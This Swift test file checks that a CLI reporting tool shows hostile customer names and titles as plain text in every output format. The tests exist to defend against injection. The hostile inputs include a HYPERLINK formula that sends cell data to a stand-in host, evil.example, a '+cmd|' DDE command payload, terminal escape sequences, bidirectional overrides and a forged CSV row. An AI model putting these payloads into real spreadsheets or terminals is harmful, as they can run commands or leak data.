import CovenantTestSupport
import Foundation
import Testing

/// The golden files of this target, byte for byte.
let cliGoldenFiles = GoldenFile("Tests/CovenantCLITests/Golden")

/// Names and titles written to attack a reader: formulas for a spreadsheet,
/// escape sequences for a terminal, bidirectional controls that reorder what
/// is read, a line break that would forge a row. Every format shows them as
/// text (`\u{1B}`, a leading `'` in CSV) and nothing else.
@Suite("Hostile text in every output: golden files", .serialized)
struct HostileOutputTests {
    typealias Edit = HardeningCommandTests.Edit

    static let edits = [
        Edit(file: "Contracts/hooli.yaml", old: "customer: Hooli XYZ",
             new: #"customer: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")""#),
        Edit(file: "Contracts/acme-tools.yaml", old: "customer: Acme Tools Co.",
             new: #"customer: "Acme\u001B[31m Tools\u0007\u0000""#),
        Edit(file: "Contracts/globex.yaml", old: "customer: Globex Corporation",
             new: #"customer: "Globex \u202Eevil\u2066 Corp\u200F""#),
        Edit(file: "Contracts/corner-bakery.yaml", old: "customer: Corner Bakery",
             new: #"customer: "Corner Bakery\nC-9999  Forged Row  starter  $0.00""#),
        Edit(file: "Contracts/bolt-hardware.yaml", old: "customer: Bolt Hardware",
             new: #"customer: "+cmd|' /C calc'!A0""#),
        Edit(file: "Contracts/initech.yaml", old: "customer: Initech LLC", new: #"customer: "@SUM(1+1)\t-2+3""#),
        Edit(file: "Scenarios/2026-01/incidents.yaml", old: "title: Scheduler stalled on one shard",
             new: #"title: "Scheduler \u001B]0;pwned\u0007stalled\r\nINC-FAKE""#),
        Edit(file: "Scenarios/2026-01/tickets.csv", old: "Dashboard export fails (case F)",
             new: "Dashboard \u{1B}[2J export \u{202E} fails (case F)"),
    ]

    @Test("statements and the summary in every format, with their manifest")
    func statements() throws {
        let folder = try HardeningCommandTests.project(Self.edits)
        let out = folder + "/out"
        let result = CLIHarness.run(
            ["statement", "--month", "2026-01", "--format", "text,md,json,csv,html", "--out", out], in: folder)
        #expect(result.code == 0, "\(result.err)")
        let names = try FileManager.default.contentsOfDirectory(atPath: out).sorted()
        #expect(names.count == 7 * 5 + 5 + 1)
        for name in names {
            let bytes = try #require(FileManager.default.contents(atPath: out + "/" + name))
            let text = String(decoding: bytes, as: UTF8.self)
            try cliGoldenFiles.check(text, "hostile/\(name)")
            // Tabs stay inside CSV cells, HTML and JSON strings escape or keep them as text, and the manifest
            // separates its fields with them; text and Markdown show them as `\u{9}`.
            let tabs = name == "manifest.txt" || !(name.hasSuffix(".txt") || name.hasSuffix(".md"))
            #expect(!Self.hasHiddenCharacter(text, allowingTabs: tabs), "\(name)")
        }
        // The manifest reads its escaped values back exactly: a rerun finds no figure changed.
        let rerun = CLIHarness.run(
            ["statement", "--month", "2026-01", "--format", "text,md,json,csv,html", "--out", out], in: folder)
        #expect(rerun.code == 0, "\(rerun.err)")
        #expect(rerun.out.contains("(text, md, json, csv, html; 0 files changed)"), "\(rerun.out)")
        let printed = CLIHarness.run(
            ["statement", "--month", "2026-01", "--format", "text", "--out", "-", "C-2026-031"], in: folder)
        #expect(printed.out.contains("C-2026-031  Corner Bakery\\u{A}C-9999  Forged Row  starter  $0.00  starter"))
        #expect(!printed.out.contains("\nC-9999"))
    }

    @Test("explain and watch show hostile names and titles as text")
    func explainAndWatch() throws {
        let folder = try HardeningCommandTests.project(Self.edits)
        let explain = CLIHarness.run(["explain", "C-2026-032", "--month", "2026-01"], in: folder)
        #expect(explain.code == 0, "\(explain.err)")
        try cliGoldenFiles.check(explain.out, "hostile/explain-C-2026-032.txt")
        let watch = CLIHarness.run(["watch", "--at", "2026-01-31 23:00"], in: folder)
        try cliGoldenFiles.check(watch.out, "hostile/watch.txt")
        for text in [explain.out, watch.out] { #expect(!Self.hasHiddenCharacter(text, allowingTabs: false)) }
    }

    @Test("diagnostics show hostile text in the message and the echoed line as codes, the caret under its column")
    func diagnostics() throws {
        let folder = try HardeningCommandTests.project(
            Self.edits + [
                Edit(file: "Contracts/acme-tools.yaml", old: "monthly_fee: 2500.00",
                     new: "monthly_fee: \"=1+2\u{202E}\u{1B}[0m\""),
                Edit(file: "Scenarios/2026-01/tickets.csv", old: "T-1007,,auto_reply,2026-01-31T21:00:02-08:00,,",
                     new: "T-1007,,auto_reply,\u{1B}[2J\u{7},,"),
            ])
        let check = CLIHarness.run(["check"], in: folder)
        #expect(check.code == 65)
        // Each diagnostic is a line at the start of the text and its echo indented under it; errors only.
        var blocks: [String] = []
        for line in check.err.split(separator: "\n") {
            if line.hasPrefix(" "), !blocks.isEmpty {
                blocks[blocks.count - 1] += "\n" + line
            } else {
                blocks.append(String(line))
            }
        }
        let errors = blocks.filter { $0.contains(": error: ") }.joined(separator: "\n") + "\n"
        try cliGoldenFiles.check(errors, "hostile/check-errors.txt")
        // The file's escape is refused where it is, and the caret stands under its code, 28 columns in.
        #expect(check.err.contains(
            "acme-tools.yaml:10:20: error: control character U+001B is not allowed (only tab, line feed and carriage "
                + "return)\n  monthly_fee: \"=1+2\\u{202E}\\u{1B}[0m\"\n" + String(repeating: " ", count: 28) + "^\n"))
        #expect(!Self.hasHiddenCharacter(check.err, allowingTabs: false))
    }

    /// Whether `text` holds a control (but line feeds, and tabs when allowed) or a bidirectional control.
    static func hasHiddenCharacter(_ text: String, allowingTabs: Bool) -> Bool {
        text.unicodeScalars.contains { scalar in
            if scalar == "\n" || (allowingTabs && scalar == "\t") { return false }
            let value = scalar.value
            return value < 0x20 || (0x7F..<0xA0).contains(value) || value == 0x61C || value == 0x200E
                || value == 0x200F || (0x2028...0x202E).contains(value) || (0x2066...0x2069).contains(value)
        }
    }
}
